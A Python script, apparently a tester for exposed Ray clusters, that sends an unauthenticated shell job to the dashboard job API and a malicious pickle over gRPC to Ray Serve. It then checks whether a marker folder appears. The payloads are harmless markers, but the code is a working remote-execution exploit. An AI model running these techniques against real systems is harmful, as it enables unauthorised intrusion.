"""What a stranger tries against open ports: `python stranger.py FOLDER ADDRESS:PORT ...` prints what came of it as JSON.

Two attacks on each port, which leave a file in FOLDER if they run: a job for the dashboard agent, and a pickle for a Serve
replica. Runs without a token, and imports no Ray.
"""

import json
import os
import pickle
import socket
import sys
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import grpc


class Touch:
    """Unpickling it makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.path),)


def post_job(address: str, marker: Path) -> str:
    body = json.dumps({"entrypoint": f"mkdir {marker}"}).encode()
    request = urllib.request.Request(f"http://{address}/api/job_agent/jobs/", body, {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            deadline = time.monotonic() + 60
            while not marker.exists() and time.monotonic() < deadline:
                time.sleep(0.2)
            return str(answer.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except Exception as error:  # no HTTP server: whatever it answers
        return type(error).__name__


def send_pickle(address: str, marker: Path) -> str:
    payload = pickle.dumps(Touch(marker))
    length = bytes([len(payload) & 0x7F | 0x80, len(payload) >> 7])  # a varint of two bytes
    assert len(payload) < 1 << 14
    message = b"\x0a" + length + payload  # ASGIRequest: field 1 is pickled_request_metadata
    with grpc.insecure_channel(address) as channel:
        try:
            channel.unary_unary("/ray.serve.ASGIService/HandleRequest")(message, timeout=20)
            return "OK"
        except grpc.RpcError as error:
            return str(error.code().name)


def attack(folder: Path, address: str) -> dict[str, str]:
    host, _, port = address.rpartition(":")
    try:
        socket.create_connection((host, int(port)), timeout=5).close()
    except OSError:
        return {"job": "closed", "pickle": "closed"}
    name = address.replace(".", "-").replace(":", "_")
    return {"job": post_job(address, folder / f"job-{name}"), "pickle": send_pickle(address, folder / f"pickle-{name}")}


if __name__ == "__main__":
    with ThreadPoolExecutor(16) as pool:
        results = pool.map(lambda address: attack(Path(sys.argv[1]), address), sys.argv[2:])
    print(json.dumps(dict(zip(sys.argv[2:], results, strict=True))))
